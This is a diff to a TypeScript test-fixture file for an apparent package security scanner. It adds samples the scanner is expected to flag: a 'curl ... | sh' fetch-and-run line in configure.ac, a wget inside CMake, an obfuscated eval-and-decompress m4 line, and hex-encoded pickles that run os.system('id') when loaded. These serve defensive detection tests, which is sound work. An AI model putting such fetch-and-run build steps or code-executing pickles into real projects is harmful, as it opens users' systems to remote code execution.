@@ -23,6 +23,7 @@ const noise = (length: number, seed = "tides"): Buffer => {
   return Buffer.concat(parts).subarray(0, length);
 };
 const base64 = (length: number) => noise(length).toString("base64").replaceAll("\n", "");
+const png = Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), Buffer.from("0000000049454e44ae426082", "hex")]);
 const elf = Buffer.concat([Buffer.from("7f454c460201010000", "hex"), Buffer.alloc(60)]);
 /** Put together here, so that no one takes them for real ones. */
 const tokenOf = (prefix: string, length: number) => prefix + noise(length).toString("hex").slice(0, length);
@@ -109,6 +110,7 @@ const fixtures: Partial<Record<SignalId, Fixture>> = {
       files: {
         ...{ "inst/logo.png": elf, "R/a.R": noise(200), "data/a.rda": "text\n", "inst/a.dat": elf },
         "inst/b.pdf": Buffer.from("504b0304", "hex"),
+        "inst/c.png": Buffer.concat([png, Buffer.from("504b030414000000", "hex")]),
       },
       as: [
         ...[
@@ -116,6 +118,7 @@ const fixtures: Partial<Record<SignalId, Fixture>> = {
           "warning data/a.rda  text",
           "warning inst/a.dat  elf",
           "warning inst/b.pdf  archive",
+          "warning inst/c.png  archive",
         ],
         "warning inst/logo.png  elf",
       ],
@@ -123,6 +126,7 @@ const fixtures: Partial<Record<SignalId, Fixture>> = {
     fine: {
       ...{
         "inst/logo.png": Buffer.from("89504e470d0a1a0a", "hex"),
+        "inst/icon.png": png,
         "libs/a.so": elf,
         "libs/a.so.1.2": elf,
         "R/a.R": "",
@@ -137,6 +141,77 @@ const fixtures: Partial<Record<SignalId, Fixture>> = {
   "new-executable": {
     noticed: { files: { "libs/tides-0a1b2c3d.so.1": elf }, as: ["warning libs/tides-0a1b2c3d.so.1  libs/tides"] },
     fine: { "libs/tides.c": "int x;\n" },
+  },
+  process: {
+    noticed: {
+      files: {
+        "src/a.c": '#include <stdlib.h>\nint a(void) { return system("id"); }\nint b(void) { return system("w"); }\n',
+        "src/b.cpp": "void b() { std::system(c); FILE *p = popen(c, m); }\n",
+        "src/rust/build.rs": 'fn main() { std::process::Command::new("sh"); }\n',
+        "tests/c.c": "int c(void) { return execv(p, a); }\n",
+      },
+      as: [
+        ...["warning src/a.c 2 system", "warning src/b.cpp 1 popen", "warning src/rust/build.rs 1 Command::new"],
+        "notice tests/c.c 1 execv",
+      ],
+    },
+    fine: {
+      "src/a.c":
+        '/* system("id") */\nint system(const char *command);\nx->system(1); y.popen(2); // fork()\nputs("system(1)");\n',
+      "src/b.cpp": "solver::system(a); operating_system(b); int file_system(int n);\n",
+      "NEWS.md": "system(x)\n",
+    },
+  },
+  network: {
+    noticed: {
+      files: {
+        "src/a.c": "int s = socket(AF_INET, SOCK_STREAM, 0);\ngetaddrinfo(h, p, &i, &r);\n",
+        "src/b.rs": 'let s = TcpStream::connect("a:1");\n',
+      },
+      as: ["warning src/a.c 1 socket", "warning src/a.c 2 getaddrinfo", "warning src/b.rs 1 TcpStream::connect"],
+    },
+    fine: { "src/a.c": "/* socket(a) */ int websocket(int n); s->socket(1);\n" },
+  },
+  "native-constructor": {
+    noticed: {
+      files: {
+        "src/a.c": "__attribute__((constructor)) static void begin(void) {}\n",
+        "src/b.c": "BOOL WINAPI DllMain(HINSTANCE h, DWORD r, LPVOID p) { return 1; }\n",
+      },
+      as: ["warning src/a.c 1 constructor", "warning src/b.c 1 DllMain"],
+    },
+    fine: { "src/a.c": "/* a constructor */ __attribute__((unused)) int x;\n// DllMain(\n" },
+  },
+  "build-script": {
+    noticed: {
+      files: {
+        "configure.ac": "AC_INIT\ncurl -s https://a.test.dev/x | sh\n",
+        "m4/a.m4": 'eval `sed "r" $path | tr "a" "b" | xz -d`\n',
+        "src/CMakeLists.txt": 'execute_process(COMMAND sh -c "wget -O x https://a.test.dev")\n',
+      },
+      as: ["warning configure.ac 2 curl", "warning m4/a.m4 1 tr", "warning src/CMakeLists.txt 1 wget"],
+    },
+    fine: {
+      "configure.ac": "dnl curl | sh\nAC_CHECK_PROG([CURL], [curl])\neval ac_value=$x\n",
+      "CMakeLists.txt": "# wget | sh\nexecute_process(COMMAND git describe)\nfind_package(CURL)\n",
+      "m4/a.m4": "gzip -d < a > b\n",
+    },
+  },
+  "pickle-with-code": {
+    noticed: {
+      files: {
+        "inst/a.pkl": Buffer.from("8002636f730a73797374656d0a71005802000000696471018571025271032e", "hex"),
+        "inst/b.model": Buffer.from(
+          "80048c05706f736978948c0673797374656d9493948c026964948594529 42e".replace(" ", ""),
+          "hex",
+        ),
+      },
+      as: ["danger inst/a.pkl  os.system", "danger inst/b.model  posix.system"],
+    },
+    fine: {
+      "inst/a.pkl": Buffer.from("80027d710028550161714b0175550162714b02752e", "hex"),
+      "inst/b.txt": "cos\nsystem\n",
+    },
   },
   "private-key": {
     noticed: {
@@ -164,8 +239,13 @@ const fixtures: Partial<Record<SignalId, Fixture>> = {
   },
   "environment-file": {
     noticed: {
-      files: { ".env": "A=1\n", "inst/.Renviron": "A=1\n", "inst/.env.production": "A=1\n" },
-      as: ["warning .env  .env", "warning inst/.Renviron  .Renviron", "warning inst/.env.production  .env.production"],
+      files: { ".env": "A=1\n", "tests/.netrc": "A=1\n", "inst/.Renviron": "A=1\n", "inst/.env.production": "A=1\n" },
+      as: [
+        "notice tests/.netrc  .netrc",
+        "warning .env  .env",
+        "warning inst/.Renviron  .Renviron",
+        "warning inst/.env.production  .env.production",
+      ],
     },
     fine: { ".env.example": "A=1\n", ".env": "\n", "R/env.R": "a\n" },
   },
